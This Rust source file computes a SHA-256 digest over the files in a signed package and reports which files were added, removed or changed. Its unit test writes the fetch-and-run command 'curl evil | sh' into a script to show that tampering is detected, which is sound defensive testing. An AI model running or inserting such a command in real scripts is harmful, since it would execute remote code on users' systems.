//! The package digest: one SHA-256 over a canonical listing of every file in
//! a package, the same on every machine whatever order the folder lists in.
//!
//! The listing has one line per file, sorted by path (`/`-separated,
//! relative to the package): `<path>\t<size>\t<sha256 of the content>`.
//! Symbolic links are listed by their target text (`<path>\tlink\t<sha256
//! of the target>`), never followed. The signature file itself and `.git`
//! folders are left out.

use std::collections::{BTreeMap, HashMap};
use std::io::Read;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use sha2::{Digest, Sha256};

use super::TrustError;
use crate::files_on_disk::{hex, sha256_hex};

/// The file a signature is stored in, inside the package.
pub const SIGNATURE_FILE: &str = "skill.sig";
/// Packages with more files than this are refused rather than hashed.
const MAX_FILES: usize = 10_000;
/// Folders nested deeper than this are refused.
const MAX_DEPTH: usize = 32;

/// One file as the digest sees it.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
pub struct FileEntry {
    /// Its size in bytes, or `link` for a symbolic link.
    pub size: String,
    /// SHA-256 of its content (of the target text, for a link), as hex.
    pub sha256: String,
}

/// Every file of a package and the digest over them.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PackageDigest {
    /// Files by their `/`-separated path inside the package.
    pub files: BTreeMap<String, FileEntry>,
}

impl PackageDigest {
    /// Hashes every file under `root`.
    pub fn of(root: &Path) -> Result<PackageDigest, TrustError> {
        let mut walk = Walk::default();
        walk.dir(root, root, 0)?;
        Ok(PackageDigest { files: walk.files })
    }

    /// Hashes every file under `root`, taking the content of the files in
    /// `read` (by `/`-separated path) from there instead of the disk, so the
    /// digest covers exactly the bytes the caller holds. Also returns the
    /// target of every symbolic link, by path.
    pub(crate) fn of_read(
        root: &Path,
        read: &HashMap<String, Arc<[u8]>>,
    ) -> Result<(PackageDigest, BTreeMap<String, PathBuf>), TrustError> {
        let mut walk = Walk {
            read: Some(read),
            ..Walk::default()
        };
        walk.dir(root, root, 0)?;
        Ok((PackageDigest { files: walk.files }, walk.links))
    }

    /// The canonical listing the digest is computed over.
    pub fn listing(&self) -> String {
        self.files
            .iter()
            .map(|(path, f)| format!("{path}\t{}\t{}\n", f.size, f.sha256))
            .collect()
    }

    /// `sha256:<hex>` over the listing.
    pub fn digest(&self) -> String {
        format!("sha256:{}", sha256_hex(self.listing().as_bytes()))
    }

    /// What changed from `signed` to `self`: one phrase per file, in path order.
    pub fn changes_from(&self, signed: &PackageDigest) -> Vec<String> {
        let mut changes = Vec::new();
        for (path, entry) in &signed.files {
            match self.files.get(path) {
                None => changes.push(format!("{path} was removed")),
                Some(now) if now != entry => changes.push(format!("{path} changed")),
                Some(_) => {}
            }
        }
        for path in self.files.keys() {
            if !signed.files.contains_key(path) {
                changes.push(format!("{path} was added"));
            }
        }
        changes
    }
}

/// One pass over a package folder.
#[derive(Default)]
struct Walk<'a> {
    /// Contents already in memory, by path: hashed instead of read again.
    read: Option<&'a HashMap<String, Arc<[u8]>>>,
    files: BTreeMap<String, FileEntry>,
    links: BTreeMap<String, PathBuf>,
}

impl Walk<'_> {
    fn dir(&mut self, root: &Path, dir: &Path, depth: usize) -> Result<(), TrustError> {
        let io = |path: &Path, e: std::io::Error| TrustError::Io {
            path: path.to_path_buf(),
            reason: e.to_string(),
        };
        if depth > MAX_DEPTH {
            return Err(TrustError::Package {
                path: dir.to_path_buf(),
                reason: format!("folders are nested more than {MAX_DEPTH} deep"),
            });
        }
        for entry in std::fs::read_dir(dir).map_err(|e| io(dir, e))? {
            let entry = entry.map_err(|e| io(dir, e))?;
            let path = entry.path();
            let name = entry.file_name();
            let relative = slash_path(path.strip_prefix(root).unwrap_or(&path));
            if (depth == 0 && name == SIGNATURE_FILE) || name == ".git" {
                continue;
            }
            let kind = entry.file_type().map_err(|e| io(&path, e))?;
            let file = if kind.is_symlink() {
                let target = std::fs::read_link(&path).map_err(|e| io(&path, e))?;
                let entry = FileEntry {
                    size: "link".into(),
                    sha256: sha256_hex(target.to_string_lossy().as_bytes()),
                };
                self.links.insert(relative.clone(), target);
                entry
            } else if kind.is_dir() {
                self.dir(root, &path, depth + 1)?;
                continue;
            } else if kind.is_file() {
                match self.read.and_then(|read| read.get(&relative)) {
                    Some(bytes) => FileEntry {
                        size: bytes.len().to_string(),
                        sha256: sha256_hex(bytes),
                    },
                    None => hash_file(&path).map_err(|e| io(&path, e))?,
                }
            } else {
                return Err(TrustError::Package {
                    path,
                    reason: "it is neither a file, a folder nor a link (a socket or device?)"
                        .into(),
                });
            };
            if self.files.len() >= MAX_FILES {
                return Err(TrustError::Package {
                    path: root.to_path_buf(),
                    reason: format!("it holds more than {MAX_FILES} files"),
                });
            }
            self.files.insert(relative, file);
        }
        Ok(())
    }
}

/// A relative path as the digest names it: its components joined by `/`.
pub(crate) fn slash_path(relative: &Path) -> String {
    relative
        .components()
        .map(|c| c.as_os_str().to_string_lossy().into_owned())
        .collect::<Vec<_>>()
        .join("/")
}

fn hash_file(path: &Path) -> std::io::Result<FileEntry> {
    let mut file = std::fs::File::open(path)?;
    let mut sha = Sha256::new();
    let mut buffer = vec![0u8; 64 * 1024];
    let mut size: u64 = 0;
    loop {
        let n = file.read(&mut buffer)?;
        if n == 0 {
            break;
        }
        size += n as u64;
        sha.update(&buffer[..n]);
    }
    Ok(FileEntry {
        size: size.to_string(),
        sha256: hex(&sha.finalize()),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn digest_ignores_listing_order_and_names_each_change() {
        let a = tempfile::tempdir().expect("dir");
        std::fs::write(a.path().join("SKILL.md"), "hi").expect("write");
        std::fs::create_dir(a.path().join("scripts")).expect("dir");
        std::fs::write(a.path().join("scripts/run.sh"), "echo").expect("write");
        std::fs::write(a.path().join(SIGNATURE_FILE), "ignored").expect("write");
        let b = tempfile::tempdir().expect("dir");
        std::fs::create_dir(b.path().join("scripts")).expect("dir");
        std::fs::write(b.path().join("scripts/run.sh"), "echo").expect("write");
        std::fs::write(b.path().join("SKILL.md"), "hi").expect("write");
        let (da, db) = (
            PackageDigest::of(a.path()).expect("a"),
            PackageDigest::of(b.path()).expect("b"),
        );
        assert_eq!(da.digest(), db.digest());
        assert!(da.listing().starts_with("SKILL.md\t2\t"));
        std::fs::write(b.path().join("scripts/run.sh"), "curl evil | sh").expect("write");
        std::fs::write(b.path().join("extra"), "x").expect("write");
        let db = PackageDigest::of(b.path()).expect("b");
        assert_ne!(da.digest(), db.digest());
        assert_eq!(
            db.changes_from(&da),
            vec!["scripts/run.sh changed", "extra was added"]
        );
    }
}
